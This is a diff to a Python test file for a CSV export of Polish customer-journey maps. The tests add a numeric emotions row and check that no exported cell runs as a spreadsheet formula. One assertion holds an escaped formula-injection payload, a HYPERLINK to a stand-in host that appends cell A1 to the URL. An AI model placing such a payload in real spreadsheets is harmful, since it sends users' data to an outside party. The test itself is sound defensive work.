@@ -83,7 +83,9 @@ def test_a_polish_journey_is_its_grid_with_polish_labels(workspace: Path, monkey
     rows = _rows(raw)
     assert rows[0] == ["Etap", "1. Wniosek online", "2. Weryfikacja tożsamości", "3. Decyzja kredytowa"]
     by_label = {row[0]: row[1:] for row in rows[1:]}
-    assert list(by_label) == ["Cel", "Punkty styku", "Działania", "Myśli", "Odczucia", "Emocje", "Problemy"]
+    # (session 40: the emotions as numbers, the journey and its persona follow the aspects' rows)
+    assert list(by_label) == ["Cel", "Punkty styku", "Działania", "Myśli", "Odczucia", "Emocje", "Problemy",
+                              "Emocje (od -2 do +2)", "Ścieżka", "Persona"]
     assert all(len(row) == 4 for row in rows)
     assert by_label["Emocje"] == ["bardzo źle (-2)", "dobrze (+1)", "emocji nie zapisano"]
     assert by_label["Punkty styku"][0] == ("• aplikacja: Formularz wniosku w aplikacji banku\n"
@@ -99,7 +101,10 @@ def test_no_cell_runs_as_a_formula(workspace: Path, monkeypatch: pytest.MonkeyPa
     code, out, _err = render_cli(workspace, monkeypatch, "journeys/kredyt.yaml", "-f", "csv")
     assert code == 0
     rows = _rows(out.encode("utf-8"))
-    cells = [cell for row in rows for cell in row]
+    # cxkit's own row of emotions as numbers ("-2") is a number, not a formula: written bare (session 40)
+    numbers = [row for row in rows if row[0] == "Emocje (od -2 do +2)"]
+    assert len(numbers) == 1 and all(c == "" or c.lstrip("-").isdigit() for c in numbers[0][1:]), numbers
+    cells = [cell for row in rows if row[0] != "Emocje (od -2 do +2)" for cell in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
     by_label = {row[0]: row[1] for row in rows[1:]}
     assert by_label["Cel"] == "'=HYPERLINK(\"http://zly.example/?d=\"&A1;\"Kliknij\")"
